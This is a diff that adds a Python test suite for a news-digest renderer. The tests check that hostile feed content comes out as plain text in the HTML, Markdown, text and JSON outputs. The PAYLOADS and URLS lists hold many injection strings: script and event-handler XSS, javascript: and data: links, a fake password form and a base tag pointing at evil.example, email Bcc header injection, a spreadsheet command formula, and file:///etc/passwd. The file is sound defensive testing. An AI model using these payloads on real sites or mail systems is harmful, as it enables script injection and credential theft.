@@ -1,0 +1,342 @@
+"""A hostile feed cannot break, bloat or deceive a digest.
+
+Every payload goes into every place a feed can fill; the HTML is then read by a parser, and only
+the elements and attributes of our own template may be there. Markdown is rendered first.
+"""
+
+from __future__ import annotations
+
+import json
+import unicodedata
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from monitor.digests.composing import compose
+from monitor.digests.links import http_url
+from monitor.digests.rendering import render
+from monitor.model.edition import Card, Edition, Reason, Rendered, Section, Trouble
+from tests.digests.builders import (
+    DUE,
+    UNTIL,
+    a_card,
+    a_coverage,
+    a_digest,
+    a_match,
+    a_topic,
+    an_edition,
+    an_entry,
+    found,
+)
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "</title></style><script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "' onmouseover='alert(1)",
+    '" style="position:fixed;inset:0" x="',
+    "<svg/onload=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "</a></h3></article></main></body>",
+    "--></style><!--<base href=//evil.example>",
+    "<form action=//evil.example><input name=password>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "{{ 7*7 }}{% raw %}{{ say.__class__ }}",
+    "[x](javascript:alert(1))",
+    "![x](https://evil.example/pixel.png)",
+    "](https://evil.example) [a",
+    "<https://evil.example>",
+    "[a]: https://evil.example",
+    "```\n<script>alert(1)</script>\n```",
+    "`code` ``more`",
+    "# heading\n## another\n---\n| a | b |\n|---|---|",
+    "- list\n1. list\n> quote\n\n    code",
+    "1) list",
+    "***\n___",
+    "\\[x](javascript:alert(1))",
+    "~~x~~ $x$ ^x^ **x** __x__",
+    "Subject\r\nBcc: everyone@evil.example\r\n\r\nbody",
+    "\x1b]0;title\x07\x1b[2J\x1b[31mred",
+    "\x00\x08\x7f\x9b\ud800\udfff",
+    "\u202emoc.live\u2066\u2067\u200f",
+    "=cmd|'/C calc'!A0",
+    "\u2028line\u2029paragraph\x85next",
+    "x" * 20_000,
+    "<b>" * 5_000,
+)
+
+URLS = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:x",
+    "file:///etc/passwd",
+    "//evil.example/x",
+    "\\\\evil.example\\x",
+    "https:/evil",
+    "https://",
+    "https://trusted.example@evil.example/",
+    "https://trusted.example\\@evil.example/",
+    "http://[",
+    "https://a.example/\r\nBcc: x",
+    "https://a.example/ javascript:x",
+    " https://a.example/",
+    "",
+    "relative/path",
+    "ftp://a.example/",
+)
+
+TAGS = {
+    "html", "head", "meta", "title", "style", "body", "div", "main", "header", "h1", "h2", "h3", "p",
+    "span", "strong", "ul", "li", "code", "section", "article", "a", "bdi", "blockquote", "footer",
+}  # fmt: skip
+ATTRIBUTES = {
+    "lang", "charset", "name", "content", "http-equiv", "style", "class", "dir", "aria-hidden", "href", "rel",
+}  # fmt: skip
+MARKDOWN_TAGS = {
+    "h1",
+    "h2",
+    "h3",
+    "p",
+    "br",
+    "strong",
+    "em",
+    "ul",
+    "li",
+    "a",
+    "blockquote",
+    "hr",
+    "code",
+}
+
+
+class Reader(HTMLParser):
+    """Collects what a browser would see."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str]] = []
+        self.comments: list[str] = []
+        self.text: list[str] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes += [(name, value or "") for name, value in attrs]
+
+    def handle_comment(self, data: str) -> None:
+        self.comments.append(data)
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+
+def filled(text: str) -> Edition:
+    """An edition in which every field a feed or its headers can fill holds the text."""
+    card = a_card(
+        title=text,
+        url=text,
+        outlet=text,
+        excerpt=text,
+        language=text,
+        outlets=(text, text, text),
+        why=(Reason("chips", 2, text, text, "title"), Reason("ai-policy", 1, text, text, text)),
+    )
+    trouble = Trouble(text, text, "failing", text, UNTIL)
+    return an_edition(
+        card,
+        title=text,
+        coverage=a_coverage(stories=1, matched=1, troubles=(trouble,)),
+        sections=(Section(topic="chips", title=text, cards=(card,), more=3),),
+        quiet=(text,),
+    )
+
+
+def check_html(rendered: Rendered) -> None:
+    reader = Reader(rendered.html)
+    plain = Reader(render(filled("harmless")).html)
+    assert set(reader.tags) <= TAGS
+    assert {name for name, _ in reader.attributes} <= ATTRIBUTES
+    assert not reader.comments
+    # The template's own styles and nothing else; as many tags as with harmless text.
+    styles = {value for name, value in plain.attributes if name in {"style", "class", "content"}}
+    assert {
+        value for name, value in reader.attributes if name in {"style", "class", "content"}
+    } <= styles
+    assert [tag for tag in reader.tags if tag not in {"a", "blockquote", "code"}] == [
+        tag for tag in plain.tags if tag not in {"a", "blockquote", "code"}
+    ]
+    assert all(value.startswith("https://") for name, value in reader.attributes if name == "href")
+
+
+def check_lines(rendered: Rendered) -> None:
+    assert "\n" not in rendered.subject
+    for form in (rendered.subject, rendered.text, rendered.markdown, rendered.html):
+        odd = {c for c in form if unicodedata.category(c) in {"Cc", "Cs", "Zl", "Zp"} and c != "\n"}
+        assert not odd
+        assert not set(form) & set(
+            "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
+        )
+    for form in (rendered.html, rendered.text, rendered.markdown, rendered.json):
+        form.encode("utf-8")
+
+
+def check_markdown(rendered: Rendered) -> None:
+    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+    reader = Reader(parser.render(rendered.markdown))
+    assert set(reader.tags) <= MARKDOWN_TAGS
+    assert reader.tags.count("h1") == 1
+    assert reader.tags.count("h2") == 1
+    assert reader.tags.count("h3") == 1
+    assert reader.tags.count("hr") == 1
+    assert {name for name, _ in reader.attributes} <= {"href"}
+    assert all(value.startswith("https://") for _, value in reader.attributes)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+def test_payloads_are_text_in_every_field_and_form(payload: str) -> None:
+    rendered = render(filled(payload))
+    check_html(rendered)
+    check_lines(rendered)
+    check_markdown(rendered)
+    json.loads(rendered.json)
+
+
+@settings(deadline=None, max_examples=60)
+@given(
+    text=st.lists(
+        st.sampled_from(PAYLOADS[:-2])
+        | st.text(alphabet="<>&\"'`[](){}!*_#|\\/-+=.:1 \n\r\t", max_size=20)
+    ).map(lambda parts: "".join(parts) + "x")
+)
+def test_any_mixture_of_markup_is_text(text: str) -> None:
+    rendered = render(filled(text))
+    check_html(rendered)
+    check_lines(rendered)
+    check_markdown(rendered)
+
+
+@pytest.mark.parametrize("url", URLS)
+def test_addresses_that_are_not_plainly_http_are_no_links(url: str) -> None:
+    assert http_url(url) == ""
+    rendered = render(an_edition(a_card(url=url)))
+    assert "<a " not in rendered.html
+    assert "](" not in rendered.markdown
+    assert json.loads(rendered.json)["sections"][0]["cards"][0]["url"] == ""
+
+
+@pytest.mark.parametrize(
+    ("url", "expected"),
+    [
+        ("https://a.example/x?y=1&z=2#f", "https://a.example/x?y=1&z=2#f"),
+        ("http://a.example:8080/a_b(c)*'", "http://a.example:8080/a_b(c)*'"),
+        ('https://a.example/"onclick="', "https://a.example/%22onclick=%22"),
+        ("https://a.example/<script>", "https://a.example/%3Cscript%3E"),
+        ("https://中文.example/路", "https://中文.example/路"),
+    ],
+)
+def test_addresses_keep_their_spelling_but_for_what_no_address_may_hold(
+    url: str, expected: str
+) -> None:
+    assert http_url(url) == expected
+
+
+def test_round_brackets_and_entities_in_an_address_survive_markdown() -> None:
+    url = "https://a.example/x_(y)?a=1&copy;=2"
+    html = MarkdownIt("commonmark").render(render(an_edition(a_card(url=url))).markdown)
+    (href,) = [value for name, value in Reader(html).attributes if name == "href"]
+    assert href.replace("%28", "(").replace("%29", ")") == url
+
+
+def test_nothing_in_the_html_is_loaded_from_anywhere() -> None:
+    html = render(filled("x")).html
+    assert "Content-Security-Policy" in html
+    assert "default-src 'none'" in html
+    for word in (
+        "src=",
+        "srcset",
+        "url(",
+        "@import",
+        "<link",
+        "<img",
+        "<script",
+        "<table",
+        "<form",
+    ):
+        assert word not in html
+    reader = Reader(render(an_edition(a_card())).html)
+    assert ("rel", "noopener noreferrer") in reader.attributes
+    assert ("content", "no-referrer") in reader.attributes
+
+
+def test_writing_direction_and_language_are_set_apart_for_each_card() -> None:
+    reader = Reader(render(an_edition(a_card(language="ar", title="عنوان"))).html)
+    assert reader.attributes.count(("lang", "ar")) == 2
+    assert ("dir", "auto") in reader.attributes
+    assert ("lang", "") in Reader(render(an_edition(a_card(language="x y"))).html).attributes
+
+
+def _flood(title: str, count: int, outlets: int, topics: int) -> list[Card]:
+    names = [f"topic-{n}" for n in range(topics)]
+    entries = [
+        an_entry(
+            number,
+            title=f"{number} {title}",
+            url=f"https://a.example/{number}?{'q' * 1_500}",
+            outlet=f"Outlet {number % outlets}",
+            excerpt=f"{title} " * 50,
+            matches=[
+                a_match(name, *(found(f"{title} {n}" * 9, title * 9) for n in range(4)))
+                for name in names[number % topics :][:6]
+            ],
+        )
+        for number in range(1, count + 1)
+    ]
+    edition = compose(
+        a_digest(per_topic=60, per_outlet=60), DUE, [a_topic(name) for name in names], entries,
+        a_coverage(), "daily-1",
+    )  # fmt: skip
+    shown = [card for section in edition.sections for card in section.cards]
+    assert len(shown) + sum(section.more for section in edition.sections) == count
+    assert edition.coverage.stories == count
+    rendered = render(edition)
+    assert len(rendered.html.encode()) < 90_000
+    assert len(rendered.text.encode()) < 90_000
+    return shown
+
+
+@pytest.mark.parametrize(
+    ("title", "outlets", "topics"),
+    [
+        ("Plain headline", 900, 4),
+        ("<\"&'>" * 60, 1, 4),
+        ("出口管制芯片" * 50, 40, 4),
+        ("Many topics", 50, 60),
+    ],
+    ids=["plain", "all to be escaped", "three bytes a character", "many topics"],
+)
+def test_five_thousand_entries_give_a_bounded_digest_that_counts_the_rest(
+    title: str, outlets: int, topics: int
+) -> None:
+    assert len(_flood(title, 5_000, outlets, topics)) >= 4
+
+
+def test_a_topic_in_flood_leaves_the_others_their_room() -> None:
+    entries = [
+        an_entry(n, topics=("flood",), outlet=f"O{n}", excerpt="word " * 60) for n in range(1, 900)
+    ]
+    entries += [an_entry(n, topics=("calm",), outlet=f"O{n}") for n in range(900, 904)]
+    topics = [a_topic("flood"), a_topic("calm")]
+    edition = compose(a_digest(per_topic=500), DUE, topics, entries, a_coverage())
+    flood, calm = edition.sections
+    assert (len(calm.cards), calm.more) == (4, 0)
+    assert flood.more == 899 - len(flood.cards) > 0
